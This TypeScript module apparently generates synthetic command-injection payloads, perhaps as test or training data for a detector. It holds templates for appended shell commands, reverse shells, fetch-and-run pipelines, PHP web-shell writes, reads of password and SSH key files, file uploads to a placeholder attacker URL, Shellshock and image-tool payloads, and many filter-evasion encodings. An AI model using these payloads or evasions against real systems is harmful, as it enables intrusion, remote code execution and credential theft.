import type { Rng } from '#models/rng.ts';
import {
  altered,
  digits,
  family,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  type Part,
  repeat,
  same,
  text,
  type Write,
  words
} from '../template.ts';
import { attackerHost, attackerUrl, base64, inventedWord, LOWER, lowerWord, topDomain } from '../vocabulary/shared.ts';
import {
  command,
  fetcher,
  interestingFile,
  powershell,
  probe,
  reverseShell,
  shell,
  simpleCommand,
  sink,
  unixFile,
  unixReader
} from '../vocabulary/systems.ts';

const separator = mostly(
  [';', 6],
  ['|', 5],
  ['||', 3],
  ['&&', 3],
  ['&', 3],
  ['\n', 1.5],
  ['\r\n', 0.5],
  ['%0a', 0.8],
  ['\\n', 0.5],
  ['|&', 0.2],
  [';;', 0.1],
  ['%3b', 0.3],
  ['%26', 0.3],
  ['%7c', 0.3],
  ['^&', 0.1],
  ['&;', 0.1],
  ['|;', 0.1],
  ['%0d%0a', 0.2],
  ['%1a', 0.05],
  ['\u001a', 0.05],
  [';|', 0.1],
  ['$;', 0.1]
);
const blank = mostly(['', 6], [' ', 5], ['  ', 0.3], ['\t', 0.2], ['+', 0.2]);
/** The ordinary argument the command is glued to. */
const argument = mostly(
  ['', 8],
  [integer(1, 99), 1.5],
  [lowerWord, 1.5],
  ['127.0.0.1', 1],
  ['localhost', 0.3],
  [text`${inventedWord}.${topDomain}`, 1],
  [text`${lowerWord}.${words('txt jpg pdf png zip')}`, 0.7],
  [text`${lowerWord}@${inventedWord}.com`, 0.3],
  ['x', 0.5],
  ['a', 0.5],
  ['test', 0.3],
  [text`../${lowerWord}`, 0.2],
  ['8.8.8.8', 0.3],
  [text`${words('http https')}://${inventedWord}.com`, 0.4],
  [text`-${letters(LOWER, 1)} `, 0.2],
  [text`${inventedWord} ${inventedWord}`, 0.3]
);
const quotes = mostly(
  ['', 10],
  ["'", 2.5],
  ['"', 2.5],
  [')', 1],
  ["')", 0.6],
  ['")', 0.6],
  ["''", 0.2],
  ['""', 0.1],
  ['*', 0.15],
  ['}', 0.1],
  ["'}", 0.1],
  ['`)', 0.1],
  [']', 0.1]
);
const ending = mostly(
  ['', 9],
  [';', 2],
  ['#', 1.3],
  [' #', 0.7],
  ['|', 1],
  ['||', 0.4],
  ['&', 0.8],
  ["'", 0.6],
  ['"', 0.5],
  ['%00', 0.2],
  ['\n', 0.5],
  [' &', 0.4],
  [';#', 0.3],
  ['&&', 0.2],
  ['%0a', 0.2],
  ["||'", 0.2],
  ["|'", 0.2],
  ['//', 0.1],
  [' --', 0.1],
  ['`', 0.2],
  [')', 0.2],
  ["'#", 0.2],
  [text`;echo ${lowerWord}`, 0.3],
  [' 2>&1', 0.2],
  ['>/dev/null', 0.1]
);

/** After a value and whatever quoting it stood in, a separator starts the attacker's own command. */
function appended(body: Part): Write {
  return text`${argument}${quotes}${blank}${separator}${blank}${body}${ending}`;
}
/** Also between separators on both sides, and as a substitution. */
function substituted(body: Part): Write {
  return text`${argument}${mostly(['', 6], [';', 1], ['|', 1], ['"', 0.7], ["'", 0.4], ['&', 0.5], ['.', 0.2], ['||', 0.3], [' ', 0.5], ['$', 0])}${oneOf(text`$(${body})`, text`\`${body}\``, text`$(${body})`, text`<(${body})`, text`$((${body}))`)}${ending}`;
}

const blankWord = mostly(
  ['${IFS}', 5],
  ['$IFS', 2],
  ['$IFS$9', 2],
  ['${IFS%??}', 0.5],
  ['$IFS$1', 0.4],
  ['\t', 0.6],
  ['<', 1],
  ['%09', 0.7],
  ['{IFS}', 0.2],
  ['$@ ', 0.1],
  ['${IFS:0:1}', 0.3],
  ['+', 0.3],
  ['%20', 0.4],
  ["$'\\x20'", 0.3],
  ["$'\\t'", 0.1],
  ['\u00a0', 0.1]
);
function withoutBlanks(written: string, rng: Rng): string {
  const instead = blankWord(rng);
  return written.replaceAll(' ', instead);
}
/** Quotes, backslashes and empty expansions inside words the shell joins again. */
function brokenUp(written: string, rng: Rng): string {
  const glue = rng.pick(["''", '""', '\\', '$@', "''", '${x}', '$*', '``', '$()', '^', '$u', '${0#$0}']);
  return written.replace(/[A-Za-z]{2,}/g, (word) => {
    const at = rng.int(1, word.length - 1);
    return word.slice(0, at) + glue + word.slice(at);
  });
}
function quotedLetter(written: string, rng: Rng): string {
  const quote = rng.pick(["'", '"']);
  return written.replace(/[A-Za-z]{2,}/g, (word) => {
    const at = rng.int(0, word.length - 1);
    return word.slice(0, at) + quote + word.charAt(at) + quote + word.slice(at + 1);
  });
}
function globbed(written: string, rng: Rng): string {
  return written.replace(/[a-z]{2,}/g, (word) =>
    Array.from(word, (letter) => (rng.chance(0.35) ? rng.pick(['?', '?', '*', `[${letter}]`]) : letter)).join('')
  );
}
const braced = altered(command, (written) => `{${written.replaceAll(' ', ',')}}`);
const hexEscaped = altered(oneOf(simpleCommand, text`cat ${interestingFile}`), (written, rng) => {
  const octal = rng.chance(0.3);
  return Array.from(written, (character) =>
    octal ? `\\${character.charCodeAt(0).toString(8)}` : `\\x${character.charCodeAt(0).toString(16)}`
  ).join('');
});
const plainHex = altered(oneOf(simpleCommand, text`cat ${interestingFile}`), (written) =>
  Buffer.from(written).toString('hex')
);
const inBase64 = altered(oneOf(command, reverseShell), (written) => base64(written));
const pathFromVariable = oneOf(
  '${PATH:0:1}',
  '${HOME:0:1}',
  '${PWD:0:1}',
  '$(echo . | tr "!-0" "\\"-1")',
  '${HOME%%u*}',
  "$'\\x2f'",
  '$(printf "\\57")'
);

export const appendedTemplates = family('command-injection/appended', {
  'any-command': appended(command),
  simple: appended(simpleCommand),
  'simple-short': text`${maybe(argument, 0.2)}${oneOf(';', '|', '||', '&&', '&', '\n', '; ', '| ', '& ', '|| ', '&& ')}${words('id whoami ls dir pwd uname ps ifconfig ipconfig hostname env netstat')}${maybe(oneOf(';', '|', '#', '&', "'", '"'), 0.3)}`,
  'short-after-value': text`${mostly([letters(LOWER, 1), 4], [lowerWord, 2], [integer(1, 999), 2], [text`/${lowerWord}.html`, 1], ['127.0.0.1', 1])}${mostly(['', 5], [')', 1], ["'", 1], ['"', 1])}${oneOf('|', ';', '&', '||', '&&', '\n', ' | ', '; ')}${words('id whoami ls dir uname pwd ps ver env')}${mostly(['', 3], [oneOf('|', ';', '#', '&', "'"), 2])}`,
  'windows-administration': text`${maybe(oneOf('| ', '|', '&& ', '& ', '|| '))}${oneOf(
    text`dir ${words('C:\\ C:\\Users D:\\ C:\\inetpub %TEMP%')}${maybe(oneOf('\\*', '*', ' /s'))}`,
    text`type ${words('%SYSTEMROOT% %WINDIR% C:\\Windows %APPDATA%')}\\${lowerWord}${maybe(text`\\${words('SAM SYSTEM SECURITY')}`)}`,
    text`net ${words('view user share start localgroup accounts')}`,
    text`netsh ${words('firewall advfirewall interface')} ${words('set show')} ${lowerWord} ${lowerWord}`,
    text`reg ${words('add query delete save')} "HKLM\\${words('SYSTEM SOFTWARE SAM')}\\${lowerWord}\\${lowerWord}"${maybe(text` /v ${lowerWord} /t REG_${words('DWORD SZ')} /d ${integer(0, 1)} /f`)}`,
    text`sc ${words('query stop config')} ${lowerWord}`,
    text`wmic ${words('process qfe service')} ${words('list get')} ${lowerWord}`
  )}${maybe(oneOf('&', ' &', '|'))}`,
  'short-before-value': text`${maybe(oneOf('|', ';', '&', '`', '\n'))}${words('id whoami ls dir uname pwd ps net␣view ipconfig')}${oneOf('|', ';', '&', '||', '`', '|#', ';#', '\n')}`,
  'read-file': appended(text`${unixReader} ${interestingFile}`),
  'read-passwd': appended(
    text`${maybe('/bin/')}${words('cat cat cat tail head more less')} ${maybe(repeat('../', 1, 6))}${oneOf('/etc/passwd', '/etc/shadow', '/etc/hosts', 'etc/passwd')}`
  ),
  probe: appended(probe),
  fetch: appended(fetcher),
  'fetch-and-run': appended(
    text`${fetcher} ${oneOf(text`| ${shell}`, text`|${shell}`, text`-O ${sink};${shell} ${sink}`, text`> ${sink} && ${shell} ${sink}`, text`-o ${sink}; chmod 777 ${sink}; ${sink}`)}`
  ),
  'reverse-shell': appended(reverseShell),
  windows: appended(powershell),
  'write-file': appended(
    text`echo ${oneOf(lowerWord, '"<?php system($_GET[c]); ?>"', "'<?php @eval($_POST[x]);?>'", text`${lowerWord} ${lowerWord}`)} ${oneOf('>', '>>')} ${sink}`
  ),
  'redirect-output': appended(text`${command} ${oneOf('>', '>>', '2>&1 >', '1>', '| tee')} ${sink}`),
  several: text`${argument}${separator}${blank}${repeat(command, 2, 3, oneOf(';', ' && ', ' | ', '; ', '||'))}${ending}`,
  'between-separators': text`${maybe(argument)}${same(oneOf(';', '|', '||', '&', '&&', '\n', "'", '"', '`', '%0a'), (mark) => text`${mark}${blank}${command}${blank}${mark}`)}${maybe(argument)}`,
  'both-separators': text`${maybe(argument)}${oneOf("'", '"', ')', '')}${separator}${separator}${command}${separator}${separator}${maybe(oneOf("'", '"', ')'))}`,
  substitution: substituted(command),
  'substitution-simple': substituted(simpleCommand),
  'substitution-probe': substituted(probe),
  backticks: text`${argument}${maybe(separator)}\`${oneOf(command, simpleCommand, probe)}\`${ending}`,
  'dollar-parentheses': text`${argument}$(${oneOf(command, simpleCommand, probe)})${ending}`,
  'substitution-in-host': text`${oneOf('$(', '`')}${oneOf(simpleCommand, text`${unixReader} ${interestingFile}|base64`)}${oneOf(')', '`')}.${attackerHost}`,
  'in-quotes': text`${argument}${same(oneOf("'", '"'), (quote) => text`${quote}${separator}${command}${separator}${quote}`)}`,
  'pipe-slash-path': text`${maybe(argument)}${oneOf('|', ';', '&', '||', '&&', '`')}${blank}/${words('usr/bin bin usr/sbin sbin')}/${words('id ls cat uname whoami ps ping sleep nc wget curl')}${maybe(text` ${oneOf('-la', '-a', interestingFile, 'aux')}`)}${maybe(oneOf('|', ';', "'", '"', '`'))}`,
  'closing-function-call': text`${letters(LOWER, 0, 4)}${oneOf(')', "')", '")', "'))", "']", "'})")}${separator}${command}${ending}`,
  newline: text`${argument}${oneOf('\n', '\r\n', '\\n', '%0a', '%0d%0a', '\r', '\\r\\n')}${maybe(oneOf('/bin/', '/usr/bin/'))}${oneOf(command, simpleCommand)}${maybe(oneOf('\n', '\\n', '%0a'))}`,
  'for-loop': appended(
    oneOf(
      text`for i in $(ls ${maybe('/')}); do ${unixReader} $i; done`,
      text`while true; do ${probe}; done`,
      text`if [ $(whoami|cut -c ${integer(1, 9)}) == ${letters(LOWER, 1)} ]; then sleep ${integer(1, 30)}; fi`,
      text`[ "$(id -u)" = 0 ] && sleep ${integer(1, 9)}`,
      text`str=$(${simpleCommand});${letters(LOWER, 1)}=\${#str};if [ ${integer(1, 20)} -ne $${letters(LOWER, 1)} ];then sleep 0;else sleep ${integer(1, 9)};fi`
    )
  ),
  'set-and-run': appended(
    oneOf(
      text`set ${lowerWord}=${simpleCommand}& call %${lowerWord}%`,
      text`${letters(LOWER, 1)}=${letters(LOWER, 1, 2)};${letters(LOWER, 1)}=${letters(LOWER, 1, 2)};$${letters(LOWER, 1)}$${letters(LOWER, 1)} ${interestingFile}`,
      text`export x=$(${simpleCommand})`,
      text`eval ${oneOf('$', '"')}${lowerWord}`,
      text`${words('exec eval source . sh␣-c bash␣-c xargs nohup env timeout␣ time␣ sudo')} ${command}`
    )
  ),
  'after-sentence': text`${repeat(lowerWord, 3, 9, ' ')}${separator} ${command}${ending}`
});

export const evasiveTemplates = family('command-injection/evasive', {
  'no-blanks': appended(altered(oneOf(text`${unixReader} ${interestingFile}`, command), withoutBlanks)),
  'no-blanks-substitution': substituted(altered(command, withoutBlanks)),
  braces: appended(braced),
  'braces-bare': text`${maybe(argument)}${oneOf('', ';', '|', '$(', '`', '&&')}${braced}${ending}`,
  'broken-words': appended(altered(oneOf(simpleCommand, text`cat ${interestingFile}`), brokenUp)),
  'quoted-letters': appended(altered(oneOf(simpleCommand, text`cat ${interestingFile}`), quotedLetter)),
  globs: appended(
    oneOf(
      text`/???/${oneOf('c?t', '?at', 'ca?', 'n?', 'b??h', '?s')} ${altered(interestingFile, globbed)}`,
      text`cat ${altered(interestingFile, globbed)}`,
      text`/${words('usr/bin bin')}/${altered(words('cat whoami head tail nc bash'), globbed)} ${interestingFile}`
    )
  ),
  'base64-pipe': appended(
    text`echo ${maybe(oneOf('-n ', '-e '))}${oneOf('', '"', "'")}${inBase64}${oneOf('', '"', "'")}${blank}|${blank}base64 ${words('-d --decode -di -D')}${blank}|${blank}${shell}`
  ),
  'base64-here-string': appended(
    oneOf(
      text`${shell}<<<$(base64 -d<<<${inBase64})`,
      text`eval $(echo ${inBase64}|base64 -d)`,
      text`\`echo ${inBase64}|base64 -d\``,
      text`python -c "exec('${inBase64}'.decode('base64'))"`,
      text`openssl enc -base64 -d <<< ${inBase64} | sh`
    )
  ),
  'hex-pipe': appended(
    oneOf(
      text`echo ${plainHex}|xxd -r -p|${shell}`,
      text`printf "${hexEscaped}"|${shell}`,
      text`$(printf '${hexEscaped}')`,
      text`echo -e "${hexEscaped}"`,
      text`$'${hexEscaped}'`,
      text`cat \`echo -e "${hexEscaped}"\``,
      text`xxd -r -p <<< ${plainHex}`,
      text`\`xxd -r -ps <(echo ${plainHex})\``
    )
  ),
  reversed: appended(
    altered(command, (written, rng) =>
      rng.pick([
        `echo '${Array.from(written).reverse().join('')}'|rev|sh`,
        `$(rev<<<'${Array.from(written).reverse().join('')}')`
      ])
    )
  ),
  'case-folded': appended(
    altered(simpleCommand, (written, rng) =>
      rng.pick([
        `$(tr "[A-Z]" "[a-z]"<<<"${written.toUpperCase()}")`,
        `$(a="${written.toUpperCase()}";printf %s "\${a,,}")`,
        `$(echo ${written} | tr a-z a-z)`
      ])
    )
  ),
  'path-from-variable': appended(
    text`${words('cat ls head tac')}${oneOf(' ', '${IFS}')}${pathFromVariable}etc${pathFromVariable}${words('passwd shadow hosts')}`
  ),
  variables: appended(
    oneOf(
      text`${same(letters(LOWER, 1), (name) => text`${name}=${words('c ca l')};${letters('wxyz', 1)}=${words('at t s')};$${name}$x ${interestingFile}`)}`,
      text`\${PATH:${integer(0, 9)}:${integer(1, 3)}}${letters(LOWER, 1, 3)}`,
      text`\${LS_COLORS:${integer(1, 20)}:1}id`,
      text`$0<<<$\\'${hexEscaped}\\'`
    )
  ),
  'windows-carets': appended(
    altered(
      oneOf('whoami', 'net user', 'ping -n 5 127.0.0.1', 'powershell', 'type c:\\boot.ini', 'dir', 'ipconfig'),
      (written, rng) => written.replace(/[a-z](?=[a-z])/g, (letter) => (rng.chance(0.5) ? `${letter}^` : letter))
    )
  ),
  'windows-substrings': appended(
    oneOf(
      text`%${words('PROGRAMFILES COMSPEC WINDIR HOMEPATH')}:~${integer(0, 12)},${integer(-5, 5)}%${simpleCommand}`,
      text`ping%CommonProgramFiles:~10,-18%127.0.0.1`,
      text`cmd /c "set x=${lowerWord}&&echo %x%"`,
      text`(cmd /c "${simpleCommand}")`,
      text`start /b ${simpleCommand}`
    )
  ),
  'here-string': appended(
    text`${words('cat sh bash')}<<<${oneOf(lowerWord, text`"${command}"`, text`$(<${interestingFile})`)}`
  ),
  'read-by-redirect': appended(
    text`${words('cat sh tac while␣read␣l;do␣echo␣$l;done read␣x mapfile␣-t␣a')}<${interestingFile}`
  ),
  'comment-after': appended(text`${command} ${oneOf('#', '&& echo', '; :')}${lowerWord}`),
  'echo-arithmetic': appended(
    text`echo ${letters(LOWER.toUpperCase(), 4, 8)}$((${integer(10, 99)}+${integer(10, 99)}))$(echo ${same(letters(LOWER.toUpperCase(), 4, 8), (word) => text`${word})${word}`)}`
  ),
  'octal-address': appended(
    text`${words('curl wget')} ${oneOf('0x7f000001', digits(10), '0177.0.0.1', attackerHost)}${oneOf(':80', '')}/${lowerWord}|sh`
  )
});

const shellFunction = oneOf(
  '() { :;};',
  '() { :; };',
  '() { ignored;};',
  '() { test;};',
  '() { _; } >_[$($())] {',
  '(){ :;};',
  '() { foo;};',
  '() { }; ',
  '() { (a)=>\\'
);
export const contextTemplates = family('command-injection/context', {
  shellshock: text`${shellFunction}${maybe(' ')}${oneOf(text`echo; ${maybe('/bin/')}${command}`, text`/bin/bash -c "${command}"`, text`${command}`, text`echo "${lowerWord}: ${lowerWord}"`, text`/usr/bin/env ${simpleCommand}`, text`echo Content-Type: text/plain; echo; ${command}`, text`/bin/ping -c ${integer(1, 5)} ${attackerHost}`)}`,
  filename: text`${lowerWord}${oneOf(text`;${altered(command, withoutBlanks)}`, text`$(${altered(simpleCommand, withoutBlanks)})`, text`\`${simpleCommand}\``, text`|${simpleCommand}|`, text`";${simpleCommand};"`, text`&&${simpleCommand}`)}.${words('jpg png pdf zip txt gif docx')}`,
  hostname: text`${oneOf('127.0.0.1', text`${inventedWord}.${topDomain}`, '8.8.8.8', 'localhost')}${oneOf(';', '|', '&&', '||', '&', '\n', '%0a', ' ; ', ' | ', ' && ')}${oneOf(command, simpleCommand)}`,
  email: text`${lowerWord}${oneOf('@', '+')}${oneOf(text`$(${simpleCommand})`, text`\`${simpleCommand}\``, text`||${simpleCommand}||`, text`;${simpleCommand};`)}${oneOf('@', '.')}${inventedWord}.com`,
  'option-that-runs': text`${maybe(text`${lowerWord} `)}${oneOf('-oProxyCommand=', '--checkpoint-action=exec=', '--upload-pack=', '--use-compress-program=', '--to-command=', '--renderer-cmd-prefix=', '--open-files-in-pager=', '--rsh=', '-exec ', '--pager=', '-I ', '--init-command=')}${same(oneOf('', '"', "'"), (quote) => text`${quote}${oneOf(command, text`sh -c ${simpleCommand}`, text`touch ${sink}`, text`${fetcher}|sh`)}${quote}`)}${maybe(oneOf(' \\;', ';', ' .'))}`,
  'option-that-reads-or-writes': text`${maybe(text`${lowerWord} `)}${oneOf(text`-o ${sink} ${attackerUrl}`, text`--post-file=/${unixFile}`, text`-d @/${unixFile} ${attackerUrl}`, text`-OQueueDirectory=/tmp -X/var/www/html/${lowerWord}.php`, text`--output=/var/www/html/${lowerWord}.php ${attackerUrl}`, text`-F x=@/${unixFile} ${attackerUrl}`, text`-T /${unixFile} ${attackerUrl}`, text`--config=/${unixFile} ${attackerUrl}`)}`,
  'git-or-ssh-url': text`${oneOf('ext::sh -c ', 'ssh://-oProxyCommand=', 'git://-u', 'ext::')}${oneOf(simpleCommand, altered(command, withoutBlanks))}${oneOf('', '/x', '% >&2', text`@${inventedWord}.com/x`)}`,
  'image-tools': oneOf(
    text`push graphic-context viewbox 0 0 ${integer(100, 900)} ${integer(100, 900)} fill 'url(${attackerUrl}"|${command}")' pop graphic-context`,
    text`%!PS userdict /setpagedevice undef (%pipe%${simpleCommand}) (w) file`,
    text`|${simpleCommand}; x.jpg`,
    text`msl:/${unixFile}`,
    text`ephemeral:/tmp/${lowerWord}`,
    text`label:@/${unixFile}`
  ),
  'perl-open': text`${maybe(lowerWord)}|${blank}${oneOf(simpleCommand, command)}${blank}|`,
  'bare-reverse-shell': reverseShell,
  'trailing-separator': text`${maybe(oneOf(text`/${lowerWord}.${words('html php cgi')}`, argument))}${maybe(oneOf('|', ';', '&'))}${oneOf(simpleCommand, words('id ls whoami dir'))}${oneOf('|', ';', '||', '&', '|#', ';#')}`,
  'true-false': text`${argument}${oneOf('`', '$(', "'`", '"`', ';', '|', '||', '&&')}${words('true false')}${oneOf('`', ')', "`'", '`"', ';', '|', '')}`,
  'plus-for-blanks': text`${oneOf('|', ';', '||', '&&', '+|+', '+;+', '+||+', '$+|+', ';+')}${altered(command, (written) => written.replaceAll(' ', '+'))}${ending}`,
  'plus-for-blanks-windows': text`${oneOf('|', '||', '&&', '&', '+|+', '$&&', '$+|+', '+&+')}${words('dir type net+view net+user ver ipconfig+/all whoami')}${oneOf('', '+c:\\', '+c:/', '+..\\', '+c:\\boot.ini')}`,
  administration: appended(
    oneOf(
      text`netsh ${oneOf('firewall show state', 'advfirewall set allprofiles state off', 'wlan show profiles')}`,
      text`reg ${words('add query delete')} "HKLM\\${oneOf('SAM', 'Security', text`Software\\Microsoft\\Windows\\CurrentVersion\\${words('Run RunOnce Policies')}`, text`System\\CurrentControlSet\\${words('Services Control Hardware')}\\${lowerWord}`)}"${maybe(text` /v ${lowerWord} /t REG_DWORD /d ${integer(0, 1)} /f`)}`,
      text`type ${oneOf('%SYSTEMROOT%', 'C:\\Windows')}\\${words('repair\\SAM repair\\SYSTEM win.ini System32\\config\\RegBack\\SAM')}`,
      text`net ${words('user localgroup share start␣telnet stop␣firewall group')} ${maybe(lowerWord)}`,
      text`dir ${oneOf('C:\\', 'C:\\Users', 'C:\\Documents and Settings\\', '%SYSTEMROOT%')}`,
      text`which ${words('nc netcat perl python wget curl gcc php')}`,
      text`ls -${letters('lahtR', 2, 4)} ${words('/var/www/ /home /root /')}`,
      text`find / ${words('-perm␣-4000 -name␣*.conf')} ${maybe('2>/dev/null')}`,
      text`cat ${words('config.php index.php wp-config.php .htaccess ../config.php database.yml')}`,
      text`iptables ${words('-F -L')}`,
      text`passwd ${lowerWord}`,
      altered(letters(LOWER), (letter, rng) => `echo ${letter.repeat(rng.int(20, 300))}`),
      text`perl -e 'print "${letters(LOWER)}"x${integer(1000, 20_000)}'`,
      'systeminfo | findstr /B /C:"OS Name"'
    )
  ),
  'function-call': text`${maybe(oneOf(';', '${', "'.", ')'))}${words('system exec eval passthru shell_exec popen System Exec')}(${same(oneOf("'", '"', '`'), (quote) => text`${quote}${oneOf(simpleCommand, fetcher, text`cat ${words('config.php /etc/passwd index.php')}`, text`echo ${letters(LOWER, 3, 90)}`, text`curl ${attackerUrl}`, 'ls -al /', 'pwd')}${quote}`)})${maybe(oneOf(';', '}', ".'", '#'))}`,
  'function-call-in-code': text`${oneOf('1;', "';", '";', 'x);', '<?php ', 'a.', '{${')}${words('system exec eval passthru shell_exec')}(${same(oneOf("'", '"'), (quote) => text`${quote}${command}${quote}`)})${oneOf(';', ';//', '}}', ';?>', ";'")}`,
  'bare-ping': text`ping${maybe('.exe')} ${oneOf('-c', '-n', '-i')} ${integer(2, 40)} ${oneOf('127.0.0.1', 'localhost', attackerHost)}${maybe(oneOf('|rem', '|', '&', ';'))}`,
  'line-ends-around': text`${oneOf('%0a', '\n', '\\n', '%0d', '\r\n', '%0d%0a', '\n ')}${maybe(' ')}${oneOf(simpleCommand, probe)}${maybe(' ')}${oneOf('%0a', '\n', '\\n', ' #', '#', '%0d')}`,
  'odd-blanks': text`${maybe(oneOf('|', ';', '&', '\n', '||'))}${altered(oneOf(probe, text`rm ${lowerWord}${integer(1, 99_999)}`, text`uname ${lowerWord}`, 'uname -a', text`sleep ${integer(2, 20)}`), (written, rng) => written.replaceAll(' ', rng.pick(['\t', '\u000b', '\f', '\u00a0', ',', '\\x09', '\\x0b', '\\x0c', '\\xa0', '%09'])))}${oneOf(' #', '|rem', '\t#', '#', '&rem ', '')}`,
  'path-like-end': text`${argument}${oneOf('/index.html', '/default.aspx', '/cgi-bin/x', '*', 'test*')}${oneOf('|', ';', '; ', ' || ', '||')}${oneOf(simpleCommand, command)}${oneOf('|', '', ';')}`,
  'bare-powershell': powershell,
  'bare-fetch-and-run': text`${fetcher}${blank}|${blank}${shell}`,
  'bare-read': text`${maybe(oneOf('/bin/', '/usr/bin/'))}${words('cat head tail more less tac nl type')} ${oneOf('/etc/passwd', '/etc/shadow', '/etc/hosts', '/proc/self/environ', '../../../etc/passwd', '/root/.ssh/id_rsa', '/etc/group')}${ending}`,
  'server-exec-call': text`${maybe(oneOf(';', '${', '<?php ', "'.", '".', ')'))}${words('system exec shell_exec passthru popen proc_open pcntl_exec os.system subprocess.call execSync')}(${oneOf("'", '"', "\\'")}${command}${oneOf("'", '"', "\\'")})${oneOf(';', '', '}', ';//', ".'")}`,
  'path-with-pipe': text`/${lowerWord}/${lowerWord}.${words('cgi pl sh php asp')}?${maybe(text`${lowerWord}=`)}${oneOf('|', ';', '`', '$(')}${command}${oneOf('|', ';', '`', ')', '')}`,
  'perl-fill': text`${lowerWord}${maybe('*')} ${oneOf('|', '||', '&&', ';', '&')} perl -e 'print "${letters(LOWER)}"x${integer(100, 99_999)}'`,
  'user-supplied-crontab': text`${repeat(oneOf('*', integer(0, 59)), 5, 5, ' ')} ${maybe('root ')}${oneOf(reverseShell, text`${fetcher}|sh`)}`,
  'ssi-like-exec': text`${quotes}${separator}exec('${command}')${ending}`,
  'env-assignment': text`${oneOf('LD_PRELOAD', 'BASH_ENV', 'PERL5OPT', 'NODE_OPTIONS', 'PYTHONSTARTUP', 'GIT_SSH_COMMAND')}=${oneOf(text`'-Mbase;print(\`${simpleCommand}\`)'`, text`'${command}'`, text`$(${command})`, text`"sh -c '${command}'"`)}`
});
